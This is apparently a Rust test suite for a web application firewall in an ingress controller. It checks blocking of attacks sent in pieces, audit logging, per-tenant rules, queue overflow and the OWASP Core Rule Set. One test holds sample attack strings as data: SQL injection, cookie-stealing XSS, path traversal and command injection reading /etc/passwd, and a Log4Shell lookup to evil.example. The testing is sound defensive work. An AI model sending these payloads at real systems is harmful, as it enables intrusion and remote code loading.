//! The web application firewall, as far as a request and its answer do not show it: what a backend never gets, what is logged,
//! what one tenant's rules do to others, how many may wait, and the OWASP Core Rule Set.

use anyhow::{Context, Result, ensure};
use bytes::Bytes;
use controller::settings::ControllerSettings;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use tests::adit::{Adit, documents, slice};
use tests::checked::diagnostics;
use tests::client::Response;
use tests::connection::{Connection, PATIENCE};
use tests::http2::Http2;
use tests::objects::{self, ingress};
use tests::recorder::{Recording, recorded, recorded_answering};
use tests::wire::Remaining;
use tokio::sync::Notify;
use tokio::sync::mpsc::UnboundedReceiver;
use tokio::task::JoinSet;
use tokio::time::timeout;

const OK: &str = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
/// Put there by `make test`, from the Go module of `manifests/core-rules`.
const CORE_RULES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../target/tools/core-rules");
const RULES: &str =
    "SecRuleEngine On\nSecRule REQUEST_BODY|ARGS \"@contains evil\" \"id:7,phase:2,deny,msg:'No evil'\"";
const FORM: &str = "Content-Type: application/x-www-form-urlencoded";

/// An Ingress whose host has a firewall with these rules.
fn guarded(host: &str, rules: &str) -> Value {
    ingress(host, &[("enable-modsecurity", "true"), ("modsecurity-snippet", rules)])
}

/// These Ingresses, with a backend that writes down what it gets.
async fn world(ingresses: impl IntoIterator<Item = Value>) -> Result<(String, Recording)> {
    let (backend, recording) = recorded_answering(OK).await?;
    Ok((documents(around(backend).into_iter().chain(ingresses)), recording))
}

fn around(backend: SocketAddr) -> [Value; 3] {
    let allowed = json!({"allow-snippet-annotations": "true", "annotations-risk-level": "Critical"});
    let configmap = objects::config_map("adit", &allowed);
    [objects::backend(), slice("backend", 0, backend), configmap]
}

async fn ask(adit: &Adit, request: impl AsRef<[u8]>) -> Result<Response> {
    let mut connection = adit.connect().await?;
    connection.send(request).await?;
    connection.response("POST").await
}

async fn get(adit: &Adit, host: &str, target: &str) -> Result<u16> {
    let request = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n");
    Ok(ask(adit, request).await?.status)
}

#[tokio::test]
async fn a_backend_gets_nothing_of_an_attack_in_pieces() -> Result<()> {
    let (manifests, recording) = world([guarded("h", RULES)]).await?;
    let adit = Adit::start(&manifests).await?;
    let mut connection = adit.connect().await?;
    connection.send(format!("POST / HTTP/1.1\r\nHost: h\r\n{FORM}\r\nTransfer-Encoding: chunked\r\n\r\n")).await?;
    for piece in ["4\r\na=an\r\n", "3\r\n+ev\r\n", "2\r\nil\r\n", "0\r\n\r\n"] {
        connection.send(piece).await?;
    }
    assert_eq!(connection.response("POST").await?.status, 403);
    let http2 = Http2::open(adit.address()?).await?;
    let request = http::Request::post("http://h/").header("content-type", &FORM[14..]).body(())?;
    let mut stream = http2.start(request, false).await?;
    stream.body(Bytes::from_static(b"a=an+ev"), false).await?;
    stream.body(Bytes::from_static(b"il"), true).await?;
    assert_eq!(stream.response().await?.status, 403);
    assert_eq!(recording.all(), "", "not even a head");
    let good = format!(
        "POST / HTTP/1.1\r\nHost: h\r\n{FORM}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\na=an\r\n5\r\n+good\r\n0\r\n\r\n"
    );
    assert_eq!(ask(&adit, good).await?.status, 200);
    assert!(recording.all().contains("a=an+good"), "{}", recording.all());
    Ok(())
}

/// A client that does not end its body gets no answer, and the backend no connection: once others have been served since.
#[tokio::test]
async fn a_body_without_an_end_is_held_back() -> Result<()> {
    let (manifests, recording) = world([guarded("h", RULES), ingress("open", &[])]).await?;
    let adit = Adit::start(&manifests).await?;
    let mut connection = adit.connect().await?;
    connection.send("POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 9\r\n\r\nheld back").await?;
    assert_eq!(connection.response("POST").await?.status, 200);
    recording.clear();
    connection.send("POST / HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 9\r\n\r\n").await?;
    assert_eq!(connection.response_head().await?.status, 100, "its head has passed");
    connection.send("held bac").await?;
    assert_eq!(get(&adit, "open", "/").await?, 200);
    assert!(!recording.all().contains("held"), "{}", recording.all());
    connection.send("k").await?;
    assert_eq!(connection.response("POST").await?.status, 200);
    assert!(recording.all().contains("held back"), "{}", recording.all());
    Ok(())
}

async fn next_line(log: &mut UnboundedReceiver<String>) -> Result<String> {
    timeout(PATIENCE, log.recv()).await.context("no line in time")?.context("the log has ended")
}

#[tokio::test]
async fn what_a_rule_finds_is_a_line_of_the_log() -> Result<()> {
    let detecting = RULES.replace("SecRuleEngine On", "SecRuleEngine DetectionOnly");
    let (manifests, _) = world([guarded("h", RULES), guarded("detecting", &detecting)]).await?;
    let (adit, mut log) = Adit::start_logging(&manifests).await?;
    assert_eq!(get(&adit, "h", "/?q=good").await?, 200);
    let clean = next_line(&mut log).await?;
    assert!(clean.contains("q=good"), "{clean}");
    for (host, status) in [("h", 403), ("detecting", 200)] {
        assert_eq!(get(&adit, host, "/?q=evil").await?, status);
        let access = next_line(&mut log).await?;
        assert!(access.contains(&format!("\" {status} ")), "{access}");
        let audit: Value = serde_json::from_str(&next_line(&mut log).await?)?;
        let transaction = &audit["transaction"];
        assert_eq!(transaction["response"]["http_code"], status);
        assert_eq!(transaction["request"]["uri"], "/?q=evil");
        assert_eq!(transaction["client_ip"], "127.0.0.1");
        assert_eq!(transaction["messages"][0]["details"]["ruleId"], "7");
    }
    Ok(())
}

/// A rule about responses that matches this text.
const LEAKS: &str = "SecRule RESPONSE_BODY \"@contains secret\" \"id:8,phase:4,deny,status:500\"";
/// The start of an answer in chunks, whose text comes in two of them.
const LEAKING: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nsec\r\n";

/// A backend that answers with what is in these pieces. It sends the second once it is told to.
async fn leaking() -> Result<(SocketAddr, Arc<Notify>)> {
    let goes_on = Arc::new(Notify::new());
    let told = Arc::clone(&goes_on);
    let script = move |_, mut connection: Connection| {
        let told = Arc::clone(&told);
        async move {
            while connection.request().await?.is_some() {
                connection.send(LEAKING).await?;
                told.notified().await;
                connection.send("3\r\nret\r\n0\r\n\r\n").await?;
            }
            Ok(())
        }
    };
    let (backend, _) = recorded(script).await?;
    Ok((backend, goes_on))
}

#[tokio::test]
async fn a_response_in_pieces_is_held_until_it_has_passed() -> Result<()> {
    let (backend, goes_on) = leaking().await?;
    let open = ingress("open", &[]);
    let guarded = guarded("h", &format!("SecRuleEngine On\n{LEAKS}"));
    let adit = Adit::start(&documents(around(backend).into_iter().chain([guarded, open]))).await?;
    goes_on.notify_one();
    let response = ask(&adit, "GET / HTTP/1.1\r\nHost: h\r\n\r\n").await?;
    assert_eq!(response.status, 500);
    assert!(!response.body.windows(3).any(|part| part == b"sec"), "nothing of it");
    goes_on.notify_one();
    assert_eq!(ask(&adit, "GET / HTTP/1.1\r\nHost: open\r\n\r\n").await?.body, b"secret");
    Ok(())
}

#[tokio::test]
async fn detection_holds_no_piece_of_a_response() -> Result<()> {
    let (backend, goes_on) = leaking().await?;
    let manifests = documents(around(backend).into_iter().chain([guarded("h", LEAKS)]));
    let (adit, mut log) = Adit::start_logging(&manifests).await?;
    let mut connection = adit.connect().await?;
    connection.send("GET / HTTP/1.1\r\nHost: h\r\n\r\n").await?;
    assert_eq!(connection.response_head().await?.status, 200);
    let mut remaining = Remaining::Chunks(0);
    assert_eq!(connection.piece(&mut remaining).await?, Some(b"sec".to_vec()), "before the rest is there");
    goes_on.notify_one();
    assert_eq!(connection.piece(&mut remaining).await?, Some(b"ret".to_vec()));
    let _access = next_line(&mut log).await?;
    let audit: Value = serde_json::from_str(&next_line(&mut log).await?)?;
    assert_eq!(audit["transaction"]["messages"][0]["details"]["ruleId"], "8");
    Ok(())
}

/// Rules that cannot be used harm their Ingress alone; nor do rules of one Ingress count for another one.
#[tokio::test]
async fn a_tenants_rules_are_its_own() -> Result<()> {
    let broken = guarded("broken", "SecRuleEngine On\nSecRule ARGS \"@rx (\" \"id:1,phase:1,deny\"");
    let all = guarded("all", "SecRuleEngine On\nSecAction \"id:1,phase:1,deny\"");
    let (manifests, _) = world([broken, all, guarded("h", RULES), ingress("open", &[])]).await?;
    let adit = Adit::start(&manifests).await?;
    for (host, status) in [("broken", 503), ("all", 403), ("h", 200), ("open", 200)] {
        assert_eq!(get(&adit, host, "/").await?, status, "{host}");
    }
    let said: Vec<_> =
        diagnostics(ControllerSettings::default(), &manifests)?.iter().map(ToString::to_string).collect();
    assert_eq!(said.iter().filter(|said| said.contains("modsecurity-snippet")).count(), 1, "{said:#?}");
    Ok(())
}

/// What a diagnostic of these rules says.
fn said_of(rules: &str) -> Result<String> {
    let manifests = documents(around(([192, 0, 2, 1], 80).into()).into_iter().chain([guarded("h", rules)]));
    let said = diagnostics(ControllerSettings::default(), &manifests)?;
    Ok(said.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"))
}

#[test]
fn a_fault_is_named_with_its_line() -> Result<()> {
    let said = said_of("SecRuleEngine On\nSecRemoteRules key https://rules.example.com")?;
    let expected = "cannot be used: line 2: SecRemoteRules key https://rules.example.com names a file";
    assert!(said.contains(expected) && said.contains("every request is answered with 503"), "{said}");
    let said = said_of("SecRuleEngine On\nSecDebugLog /tmp/modsec_debug.log")?;
    assert!(said.contains("line 2: SecDebugLog /tmp/modsec_debug.log has no effect: no file is written"), "{said}");
    let said = said_of("Include /etc/nginx/owasp-modsecurity-crs/nginx-modsecurity.conf")?;
    assert!(
        said.contains(
            "has a firewall that cannot be used: the OWASP Core Rule Set cannot be used (--owasp-core-rules-dir"
        ),
        "{said}"
    );
    Ok(())
}

/// More requests than may wait, each of which takes a while: those beyond are answered at once, and all others are served.
#[tokio::test]
async fn a_flood_waits_no_longer_than_the_queue_is() -> Result<()> {
    const REQUESTS: usize = 400;
    let slow: Vec<_> =
        (1..200).map(|id| format!("SecRule ARGS \"@rx (?:a|b)+c{id}$\" \"id:{id},phase:2,deny\"")).collect();
    let (manifests, _) = world([guarded("h", &format!("SecRuleEngine On\n{}", slow.join("\n")))]).await?;
    let adit = Adit::start(&manifests).await?;
    let body = "a=".to_owned() + &"ab".repeat(4000);
    let request = format!("POST / HTTP/1.1\r\nHost: h\r\n{FORM}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    let mut connections = Vec::new();
    for _ in 0..REQUESTS {
        connections.push(adit.connect().await?);
    }
    let mut asked = JoinSet::new();
    for mut connection in connections {
        let request = request.clone();
        asked.spawn(async move {
            connection.send(request).await?;
            anyhow::Ok(connection.response("POST").await?.status)
        });
    }
    let statuses = asked.join_all().await.into_iter().collect::<Result<Vec<_>>>()?;
    let count = |status| statuses.iter().filter(|found| **found == status).count();
    assert_eq!(count(200) + count(503), REQUESTS, "{statuses:?}");
    assert!(count(503) > 0 && count(200) > 0, "{statuses:?}");
    let metrics = adit.metrics().await?;
    assert!(metrics.contains("reason=\"waf-busy\""), "they are counted");
    Ok(())
}

/// Attacks as textbooks have them, and requests that are none.
#[tokio::test]
async fn the_core_rules_block_attacks_and_nothing_else() -> Result<()> {
    ensure!(Path::new(CORE_RULES).join("rules").is_dir(), "{CORE_RULES} is missing: `make test` installs it");
    let included = "SecRuleEngine On\nInclude /etc/nginx/owasp-modsecurity-crs/nginx-modsecurity.conf";
    let annotated = [("enable-modsecurity", "true"), ("enable-owasp-core-rules", "true")];
    let looking = ingress("looking", &annotated);
    let except = format!("{included}\nSecRuleRemoveByTag attack-sqli");
    let (manifests, recording) = world([guarded("h", included), looking, guarded("except", &except)]).await?;
    let settings = ControllerSettings { core_rules: CORE_RULES.into(), ..ControllerSettings::default() };
    let adit = Adit::start_as(settings, &manifests).await?;
    let attacks = [
        "/?id=1%27%20OR%20%271%27=%271%27--",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?file=../../../../etc/passwd",
        "/?cmd=;cat%20/etc/passwd",
        "/?x=$%7Bjndi:ldap://evil.example/a%7D",
    ];
    for attack in attacks {
        assert_eq!(get(&adit, "h", attack).await?, 403, "{attack}");
    }
    assert_eq!(recording.all(), "");
    for target in ["/", "/shop/items?page=2&sort=price", "/search?q=red+shoes", "/a/b/c.css"] {
        assert_eq!(get(&adit, "h", target).await?, 200, "{target}");
    }
    assert_eq!(get(&adit, "looking", attacks[0]).await?, 200, "it only looks");
    assert_eq!(get(&adit, "except", attacks[0]).await?, 200, "these rules are removed");
    assert_eq!(get(&adit, "except", attacks[1]).await?, 403);
    let form = "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E";
    let request = format!(
        "POST / HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/8\r\nAccept: */*\r\n{FORM}\r\nContent-Length: {}\r\n\r\n{form}",
        form.len()
    );
    assert_eq!(ask(&adit, request).await?.status, 403);
    Ok(())
}

/// What a database says, in a page.
const ERROR_PAGE: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\n\
                          You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";

#[tokio::test]
async fn the_core_rules_hold_back_error_messages() -> Result<()> {
    let (backend, _) = recorded_answering(ERROR_PAGE).await?;
    let included = "SecRuleEngine On\nInclude /etc/nginx/owasp-modsecurity-crs/nginx-modsecurity.conf";
    let heads_alone = format!("{included}\nSecResponseBodyAccess Off");
    let ingresses = [guarded("h", included), guarded("heads", &heads_alone)];
    let settings = ControllerSettings { core_rules: CORE_RULES.into(), ..ControllerSettings::default() };
    let adit = Adit::start_as(settings, &documents(around(backend).into_iter().chain(ingresses))).await?;
    assert_eq!(get(&adit, "h", "/").await?, 403);
    assert_eq!(get(&adit, "heads", "/").await?, 200);
    Ok(())
}
